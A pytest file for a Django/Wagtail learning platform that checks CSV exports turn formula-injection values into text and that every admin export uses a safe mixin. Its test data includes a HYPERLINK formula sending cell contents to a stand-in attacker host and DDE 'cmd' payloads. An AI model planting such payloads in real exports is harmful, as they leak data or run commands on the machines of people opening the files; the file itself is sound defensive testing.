"""Spreadsheet exports never hand a coordinator a live formula (docs/security.md, "Exports").

A learner who calls themself ``=HYPERLINK(...)`` must come out of every CSV export as text. The
HTTP tests show it for the exports found by the probe; ``test_every_admin_export_is_safe`` finds
every admin view that can export (every viewset's index view, every report) through the URL
resolver, so an export added by a new app fails here until it uses ``kok_learn.exports``.
"""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from accounts.models import User
from courses.models import CoursePage
from courses.services import enrolment_create
from kok_learn.exports import SafeSpreadsheetExportMixin, spreadsheet_safe, spreadsheet_safe_row

from .accounts.factories import UserFactory
from .certificates.factories import CertificateFactory
from .mentoring.factories import MeetingFactory

FORMULA = '=HYPERLINK("http://napadac.test/?"&A1,"klik")'


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def coordinator_client(client):
    client.force_login(User.objects.get(email="koordinator@kok.test"))
    return client


@pytest.mark.parametrize("value", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_values_that_start_a_formula_become_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Marija Horvat", "", "1-2", "a=b", 42, -3, None])
def test_other_values_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_a_hand_written_row_is_made_safe():
    assert spreadsheet_safe_row(["Ana", "=1+1", 3]) == ["Ana", "'=1+1", 3]


@pytest.mark.django_db
def test_enrolment_export_keeps_a_formula_name_as_text(coordinator_client):
    learner = UserFactory(first_name=FORMULA, last_name="")
    course = CoursePage.objects.live().first()
    enrolment_create(user=learner, course=course)
    rows = _csv_rows(coordinator_client.get(reverse("enrolments:index"), {"export": "csv"}))
    names = [row[0] for row in rows[1:] if row[1] == learner.email]
    assert names == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


@pytest.mark.django_db
def test_certificate_register_export_keeps_a_formula_holder_name_as_text(coordinator_client):
    certificate = CertificateFactory(holder_name="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = _csv_rows(
        coordinator_client.get(reverse("wagtailsnippets_certificates_certificate:list"), {"export": "csv"})
    )
    holders = [row[1] for row in rows[1:] if row[0] == certificate.display_code]
    assert holders == ["'" + certificate.holder_name]


@pytest.mark.django_db
def test_meeting_export_keeps_formula_topics_as_text(coordinator_client):
    meeting = MeetingFactory(topics="-2+3+cmd|' /C calc'!A0")
    rows = _csv_rows(coordinator_client.get(reverse("meetings:index"), {"export": "csv"}))
    assert ["'" + meeting.topics] == [cell for row in rows[1:] for cell in row if "calc" in cell]


def _admin_views():
    """(route, view class, initkwargs) of every view under the admin's URL patterns."""

    def walk(patterns, prefix=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                yield from walk(entry.url_patterns, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern):
                view_class = getattr(entry.callback, "view_class", None)
                if view_class is not None:
                    yield prefix + str(entry.pattern), view_class, getattr(entry.callback, "view_initkwargs", {})

    return [view for view in walk(get_resolver().url_patterns) if view[0].startswith("admin/")]


def _exports(view_class, initkwargs) -> bool:
    if not issubclass(view_class, SpreadsheetExportMixin):
        return False
    ours = not view_class.__module__.startswith("wagtail.")
    return ours or bool(initkwargs.get("list_export"))


def test_every_admin_export_is_safe():
    exporting = [(route, cls) for route, cls, kwargs in _admin_views() if _exports(cls, kwargs)]
    # The probe's exports are among them: the discovery really sees viewsets and reports.
    routes = {route for route, _cls in exporting}
    assert any("enrolments" in route for route in routes)
    assert any("certificate" in route for route in routes)
    assert any("reports/tecajevi" in route for route in routes)
    unsafe = sorted(
        {
            f"{route} ({cls.__module__}.{cls.__qualname__})"
            for route, cls in exporting
            if not issubclass(cls, SafeSpreadsheetExportMixin)
        }
    )
    assert unsafe == [], (
        "These admin views export spreadsheets without kok_learn.exports.SafeSpreadsheetExportMixin "
        "(use kok_learn.viewsets.ModelViewSet / SnippetViewSet, or add the mixin to the view): " + ", ".join(unsafe)
    )
